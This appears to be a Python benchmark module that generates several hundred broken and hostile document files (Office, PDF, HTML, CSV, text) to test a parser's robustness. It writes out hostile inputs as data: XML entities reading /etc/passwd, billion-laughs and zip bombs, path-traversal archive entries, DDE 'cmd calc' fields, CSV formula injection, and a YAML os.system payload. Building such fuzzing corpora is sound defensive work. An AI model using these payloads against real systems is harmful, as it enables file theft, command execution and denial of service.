"""Some 350 broken and hostile files, made from small sound ones: what a reader of strangers' files has to live with.

Each family yields (name, file name, bytes or a function that makes them); everything is fixed by a seed.
"""

# ruff: noqa: E501 (hostile lines are long)
from __future__ import annotations

import io
import random
import re
import zipfile
from collections.abc import Callable, Iterator
from importlib.resources import files

from benchmarks.hostile_pdf import pdf_tricks
from tests.offices import W, p, word
from tests.rendered import Part, as_docx, as_html, as_pptx, as_txt, saved

Content = bytes | Callable[[], bytes]
Item = tuple[str, str, Content]
PARTS: list[Part] = [
    ("h1", "Rapid Review: Child Fern"),
    ("p", "Linfold Safeguarding Children Partnership"),
    ("h2", "Background"),
    ("p", "Fern was a two-year-old girl who was seriously injured at home in May 2022."),
    ("h2", "Learning"),
    ("li", "Professionals did not speak to Fern's father."),
    ("li", "Information about violence was not shared with the nursery."),
    ("h2", "Recommendations"),
    ("n", "1. Health visitors should see every child at home before a case is closed."),
]
SUFFIXES = (".pdf", ".docx", ".pptx", ".xlsx", ".html", ".txt", ".csv", ".md", ".mht")


def sound() -> dict[str, bytes]:
    """One small sound file of every format, by suffix."""
    return {
        ".pdf": (files("graph") / "samples" / "linfold-briefing-wren-2025.pdf").read_bytes(),
        ".docx": as_docx(PARTS),
        ".pptx": as_pptx(PARTS),
        ".xlsx": _book(),
        ".html": as_html(PARTS),
        ".txt": as_txt(PARTS),
        ".csv": b"Ref,Action,Lead,Due,Status\n1,Brief all teams,Linfold Police,March 2024,Complete\n" * 5,
    }


def _book(rows: int = 5, more: Callable[[object], None] | None = None) -> bytes:
    import openpyxl

    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(["Ref", "Action", "Lead", "Due", "Status"])
    for at in range(rows):
        sheet.append([at, "Brief all teams", "Linfold Police", "March 2024", "Complete"])
    if more:
        more(sheet)
    return saved(book)


def every(address: str) -> Iterator[Item]:
    """All of them; `address` is a web address that nothing may call."""
    files_ = sound()
    for suffix, data in files_.items():
        yield from _broken(suffix, data)
        for other in SUFFIXES:
            if other != suffix:
                yield f"{suffix} named {other}", f"a{other}", data
    for suffix in (".docx", ".pptx", ".xlsx"):
        yield from _archives(suffix, files_[suffix], address)
    yield from _office(address)
    yield from _html(address)
    yield from _texts()
    yield from _tables()
    yield from pdf_tricks(address)


def _broken(suffix: str, data: bytes) -> Iterator[Item]:
    """Cut off anywhere, bits turned, pieces taken out or doubled."""
    chance = random.Random(suffix)
    for _ in range(8):
        end = chance.randrange(1, len(data))
        yield f"{suffix} cut at {end}", f"a{suffix}", data[:end]
    for count in (1, 1, 3, 10, 30, 100, 300, 1000):
        turned = bytearray(data)
        for _ in range(count):
            turned[chance.randrange(len(data))] ^= 1 << chance.randrange(8)
        yield f"{suffix} with {count} bits turned", f"a{suffix}", bytes(turned)
    start, end = sorted(chance.randrange(len(data)) for _ in range(2))
    yield f"{suffix} with a hole", f"a{suffix}", data[:start] + data[end:]
    yield f"{suffix} with nuls", f"a{suffix}", data[:start] + b"\0" * (end - start) + data[end:]
    yield f"{suffix} twice", f"a{suffix}", data + data
    yield f"{suffix} behind junk", f"a{suffix}", b"\r\n junk " * 50 + data


def _repacked(data: bytes, change: Callable[[str, bytes], bytes], **more: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            new.writestr(name, change(name, old.read(name)))
        for name, content in more.items():
            new.writestr(name, content)
    return out.getvalue()


def _main(suffix: str) -> str:
    return {".docx": "word/document.xml", ".pptx": "ppt/slides/slide1.xml", ".xlsx": "xl/worksheets/sheet1.xml"}[suffix]


def _archives(suffix: str, data: bytes, address: str) -> Iterator[Item]:
    """What all zipped formats share: bombs, entities, odd names, nesting."""
    main, name = _main(suffix), f"a{suffix}"

    def put(before: bytes, text: bytes = b"", encoding: str = "") -> bytes:
        def change(part: str, content: bytes) -> bytes:
            if part != main:
                return content
            body = re.sub(rb"^<\?xml.*?\?>\s*", b"", content)
            body = re.sub(rb"(<(?:w:|a:)?t(?: [^>]*)?>)", lambda m: m[1] + text, body, count=1)
            whole = before + body
            return whole.decode().encode(encoding) if encoding else whole

        return _repacked(data, change)

    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10 if n else "ha"}">' for n in range(10))
    for kind, declared in {
        "outside file": '<!ENTITY x SYSTEM "file:///etc/passwd">',
        "canary": '<!ENTITY x SYSTEM "canary.txt">',
        "address": f'<!ENTITY x SYSTEM "{address}/x">',
        "parameter": f'<!ENTITY % x SYSTEM "{address}/x.dtd"> %x;',
        "laughs": f'{laughs}<!ENTITY x "&l9;">',
        "quadratic": f'<!ENTITY x "{"a" * 100_000}">',
    }.items():
        uses = b"" if kind == "parameter" else b"&x;" * (5000 if kind == "quadratic" else 1)
        yield f"{suffix} entity: {kind}", name, put(f"<!DOCTYPE r [{declared}]>".encode(), uses)
    yield f"{suffix} outside DTD", name, put(f'<!DOCTYPE r SYSTEM "{address}/r.dtd">'.encode())
    for code in ("utf-16", "utf-16-be", "utf-7", "cp037"):
        declared = f'<?xml version="1.0" encoding="{code}"?><!DOCTYPE r [<!ENTITY x SYSTEM "canary.txt">]>'.encode()
        yield f"{suffix} entity in {code}", name, put(declared, b"&x;", code)
    yield f"{suffix} part of 200 MB", name, lambda: _repacked(data, _same, **{"docProps/a.xml": b" " * 200_000_000})
    yield f"{suffix} main part of 100 MB", name, lambda: put(b"<!--" + b" " * 100_000_000 + b"-->")
    yield f"{suffix} 40 parts of 20 MB", name, lambda: _repacked(data, _same, **_many(40, 20_000_000))
    yield f"{suffix} 20 000 parts", name, lambda: _repacked(data, _same, **_many(20_000, 1))
    yield f"{suffix} zips in zips", name, _repacked(data, _same, **{"embeddings/a.zip": _nested(6)})
    yield f"{suffix} quoted zip in the front", name, _nested(2) + data
    yield f"{suffix} lies about its size", name, _lying(data, main)
    yield f"{suffix} part outside", name, _repacked(data, _same, **{"../../../outside.txt": b"x", "/outside.txt": b"x"})
    yield f"{suffix} macros", f"a{suffix[:-1]}m", _repacked(data, _same, **{"word/vbaProject.bin": b"Sub AutoOpen()"})
    deep = b"<a>" * 100_000
    yield f"{suffix} nested without end", name, lambda: _repacked(data, lambda n, c: deep if n == main else c)
    relations = re.sub(r"([^/]+)$", r"_rels/\1.rels", main)
    outside = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="o" TargetMode="External" Type="x/image" Target="{address}/a.png"/>'
        f'<Relationship Id="t" TargetMode="External" Type="x/attachedTemplate" Target="{address}/t.dotm"/>'
        '<Relationship Id="u" Type="x/notesSlide" Target="../../../../canary.txt"/></Relationships>'
    ).encode()
    yield f"{suffix} points outside", name, _repacked(data, lambda n, c: outside if n == relations else c)


def _same(_: str, content: bytes) -> bytes:
    return content


def _many(count: int, size: int) -> dict[str, bytes]:
    return {f"docProps/part{n}.xml": b" " * size for n in range(count)}


def _nested(depth: int) -> bytes:
    inner = b"0" * 2_000_000
    for _ in range(depth):
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
            for n in range(10):
                archive.writestr(f"{n}.zip", inner)
        inner = out.getvalue()
    return inner


def _lying(data: bytes, main: str) -> bytes:
    """The main part says it is ten bytes long."""
    changed = _repacked(data, lambda name, content: content + b" " * 3_000_000 if name == main else content)
    at = changed.rfind(main.encode()) - 46
    return changed[: at + 24] + (10).to_bytes(4, "little") + changed[at + 28 :]


def _office(address: str) -> Iterator[Item]:
    """Word and PowerPoint: structures without end, fields and links that ask for something."""
    table = "<w:tbl><w:tr><w:tc>{}</w:tc></w:tr></w:tbl>"
    inner = p("deep")
    for _ in range(100):
        inner = table.format(inner + p("x"))
    yield "docx 100 tables in tables", "a.docx", word(inner)
    yield (
        "docx wide merges",
        "a.docx",
        word(
            "<w:tbl>"
            + (
                '<w:tr><w:tc><w:tcPr><w:gridSpan w:val="999999999"/><w:vMerge w:val="restart"/></w:tcPr>'
                + p("x")
                + "</w:tc></w:tr>"
            )
            * 50
            + "</w:tbl>"
        ),
    )
    yield "docx 20 000 tables", "a.docx", lambda: word(table.format(p("x")) * 20_000)
    yield "docx 60 000 paragraphs", "a.docx", lambda: word(p("Professionals did not speak to the father.") * 60_000)
    yield "docx one paragraph of 5 MB", "a.docx", lambda: word(p("a, b and c; " * 400_000))
    yield (
        "docx fields",
        "a.docx",
        word(
            f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>INCLUDETEXT "{address}/a"</w:instrText></w:r>'
            f'<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p><w:p><w:r><w:instrText>DDEAUTO cmd calc</w:instrText></w:r></w:p>'
            + p("Fern was two years old.")
        ),
    )
    loop = f'<w:styles {W}><w:style w:styleId="A"><w:basedOn w:val="B"/></w:style><w:style w:styleId="B"><w:basedOn w:val="A"/></w:style></w:styles>'
    yield "docx styles in a circle", "a.docx", word(p("x y z", '<w:pStyle w:val="A"/>'), styles=loop)
    yield (
        "docx odd numbers",
        "a.docx",
        word(p("x y", '<w:outlineLvl w:val="-99"/><w:ind w:left="nan"/>', '<w:sz w:val="1e9"/>')),
    )
    yield "docx bidi", "a.docx", word(p("not \u202eraelc\u202c \u2066here\u2069 \u200f\u061c"))
    yield "pptx 2 000 slides", "a.pptx", lambda: as_pptx([("h1", f"Slide {n}") for n in range(2000)])


def _html(address: str) -> Iterator[Item]:
    """Web pages."""
    body = "<p>Professionals did not speak to the father.</p>"
    for name, page in {
        "frames and pictures": f'<iframe src="{address}"></iframe><img src="{address}/a.png"><link rel=stylesheet href="{address}">',
        "base and refresh": f'<base href="{address}"><meta http-equiv=refresh content="0;url={address}">',
        "script": f'<script>fetch("{address}")</script><body onload="x()">',
        "svg entity": '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "canary.txt">]><svg><text>&x;</text></svg>',
        "include": '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="canary.txt" parse="text"/>',
        "attributes": "<p " + " ".join(f"a{n}=1" for n in range(100_000)) + ">x</p>",
        "deep": "<div>" * 200_000,
        "deep lists": "<ul><li>" * 3000 + "x",
        "deep tables": "<table><tr><td>" * 2000 + "x",
        "unclosed": "<p><b><i>" * 50_000,
        "comments": "<!--" * 200_000,
        "huge spans": f"<table>{'<tr>' + '<td colspan=99999 rowspan=99999>x' * 40 + '</tr>'}</table>" * 20,
        "cells": "<table>" + "<tr>" + "<td>x" * 1000 + "</tr>" * 1,
        "entities": "&amp;" * 500_000,
        "bidi": "not \u202eraelc\u202c",
        "nuls": "<p>a\0b</p>" * 100,
        "long word": "a" * 3_000_000,
        "charset lies": '<meta charset="utf-16">caf\xe9',
        "charset unknown": '<meta charset="no-such-charset">',
        "data address": '<img src="data:image/png;base64,' + "A" * 5_000_000 + '">',
    }.items():
        yield f"html {name}", "a.html", f"<html><body>{body}{page}{body}</body></html>".encode()
    whole = (
        "MIME-Version: 1.0\nContent-Type: multipart/related; boundary=b\n\n"
        + "--b\nContent-Type: text/html\n\n<p>x</p>\n" * 3000
    )
    yield "mht of 3 000 parts", "a.mht", whole.encode()
    nested = "Content-Type: multipart/mixed; boundary=b{0}\n\n--b{0}\n"
    yield (
        "mht nested",
        "a.mht",
        b"MIME-Version: 1.0\n" + "".join(nested.format(n) for n in range(1500)).encode(),
    )


def _texts() -> Iterator[Item]:
    """Text: encodings, lengths, and what makes a careless pattern run for years."""
    chance = random.Random(7)
    noise = bytes(chance.randrange(256) for _ in range(20_000))
    learning = "Learning\n\n"
    for name, data in {
        "nuls": b"Learning\0\n" * 100,
        "utf-16 without its mark": "Learning for all.\n".encode("utf-16-le") * 50,
        "utf-32": "Learning for all.\n".encode("utf-32") * 50,
        "half a utf-16": b"\xff\xfeL",
        "bad utf-8": b"Learning \xc3\x28 \xf0\x28\x8c\x28 \xed\xa0\x80 here\n" * 40,
        "noise": noise,
        "mark only": b"\xef\xbb\xbf",
        "white": b" \n\t\r\n" * 10_000,
        "escapes": b"\x1b]0;title\x07\x1b[31m red \x1b[0m\n" * 50,
        "bidi": "Learning \u202efor\u202c all \u2067x\u2069\n".encode() * 50,
        "marks upon marks": ("e" + "\u0301" * 50_000).encode(),
        "zero width": ("L\u200be\u200ba\u200br\u200bn\n" * 5000).encode(),
        "emoji": "👩‍👩‍👧‍👦🏳️‍🌈 learning\n".encode() * 5000,
        "one long line": b"the child was seen and " * 300_000,
        "one long word": b"a" * 5_000_000,
        "a million lines": b"x\n" * 1_000_000,
        "bullets": b"- a\n" * 200_000,
        "nested bullets": b"".join(b" " * n + b"- point " + str(n).encode() + b"\n" for n in range(2000)),
        "numbers": b"1." * 200_000 + b"\n",
        "brackets": b"(" * 200_000 + b"\n",
        "quotes": "“".encode() * 100_000 + b"\n",
        "commas": (learning + "The learning included " + "a, " * 60_000 + "and b.\n").encode(),
        "and": (learning + "The learning included " + "x and " * 60_000 + "y.\n").encode(),
        "semicolons": (learning + "the need to see; " * 60_000 + "\n").encode(),
        "dates": b"between March 2020 and " * 40_000 + b"\n",
        "percents": b"50% (5/10) of " * 60_000 + b"\n",
        "capitals": b"CHILD A B C D E F " * 40_000 + b"\n",
        "names": b"Child Fern and Child Oak and " * 40_000 + b"\n",
        "dots": b"." * 500_000 + b"!\n",
        "spaces": b"a" + b" " * 1_000_000 + b"b\n",
        "dashes": b"- " * 300_000 + b"\n",
        "no sentence": b"should not did not was not " * 60_000 + b"\n",
        "headings": b"Recommendation 1\n\n" * 30_000,
        "yaml": b"a: &a [x]\n"
        + b"".join(b"b%d: &b%d [*a,*a,*a]\n" % (n, n) for n in range(9))
        + b"!!python/object/apply:os.system [id]\n",
        "table of signs": b"|" * 100_000 + b"\n",
        "hashes": b"#" * 100_000 + b" x\n",
        "stars": b"*" * 100_000 + b"\n" + b"**a" * 50_000,
        "links": b"[a](" * 50_000,
        "backslashes": b"\\" * 500_000,
    }.items():
        yield f"text: {name}", "a.txt", data
    yield "markdown: stars", "a.md", b"**a" * 50_000
    yield (
        "markdown: yaml head",
        "a.md",
        b"---\n!!python/object/apply:os.system [id]\n---\n# Learning\n\nThe child was not seen.\n",
    )


def _tables() -> Iterator[Item]:
    """Sheets: size, formulas, quotes."""
    row = b"1,Brief all teams,Linfold Police,March 2024,Complete\n"
    head = b"Ref,Action,Lead,Due,Status\n"
    for name, data in {
        "a million rows": head + row * 1_000_000,
        "20 000 columns": b",".join(b"c%d" % n for n in range(20_000)) + b"\n" + b"x," * 20_000 + b"\n",
        "a cell of 5 MB": head + b'1,"' + b"a" * 5_000_000 + b'",x,y,z\n',
        "a quote left open": head + b'1,"' + row * 2000,
        "quotes": head + b'"' * 300_001,
        "formulas": head + b'=cmd|"/c calc"!A1,=HYPERLINK("x"),@SUM(1),+1,-1\n' * 5,
        "separators": b";,|\t" * 50_000,
        "line ends": head.replace(b"\n", b"\r") + row.replace(b"\n", b"\r\r\n") * 50,
        "nuls": head + b"1,\0,x,y,z\n",
        "sep line": b"sep=\x01\n" + head + row,
        "ragged": head + b"".join(b"x," * n + b"\n" for n in range(500)),
    }.items():
        yield f"csv {name}", "a.csv", data

    def far(sheet: object) -> None:
        sheet.cell(1_048_576, 16_384, "far")  # type: ignore[attr-defined]

    yield "xlsx far cell", "a.xlsx", _book(more=far)
    yield "xlsx 60 000 rows", "a.xlsx", lambda: _book(60_000)
    book = _book()
    sheet = "xl/worksheets/sheet1.xml"
    for name, old, new in (
        ("dimension lies", b'<dimension ref="A1:E6"', b'<dimension ref="A1:XFD1048576"'),
        ("merges all", b"</sheetData>", b'</sheetData><mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>'),
        ("row numbers", b'<row r="2"', b'<row r="99999999999"'),
        ("cell names", b'r="A2"', b'r="ZZZZZZ9"'),
        ("string index", b't="s"><v>1<', b't="s"><v>999999<'),
        ("numbers", b"<v>0</v>", b"<v>1e999</v>"),
        ("columns", b"<sheetData>", b'<cols><col min="1" max="99999999" width="1" hidden="1"/></cols><sheetData>'),
        ("outside formula", b"<v>0</v>", b"<f>[1]Sheet1!A1+WEBSERVICE(&quot;http://x&quot;)</f>"),
    ):
        yield f"xlsx {name}", "a.xlsx", _repacked(book, lambda n, c, o=old, w=new: c.replace(o, w) if n == sheet else c)  # type: ignore[misc]
